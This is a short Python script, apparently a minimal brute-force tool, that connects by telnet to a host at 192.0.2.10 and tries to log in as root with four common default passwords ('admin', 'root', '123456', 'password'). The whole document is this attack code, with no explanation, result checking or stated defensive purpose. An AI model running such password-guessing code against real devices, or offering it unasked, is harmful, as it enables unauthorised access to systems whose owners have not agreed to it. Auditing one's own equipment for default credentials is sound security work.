import telnetlib

for password in ["admin", "root", "123456", "password"]:
    tn = telnetlib.Telnet("192.0.2.10", 23, timeout=5)
    tn.read_until(b"login: ")
    tn.write(b"root\n")
    tn.read_until(b"Password: ")
    tn.write(password.encode() + b"\n")
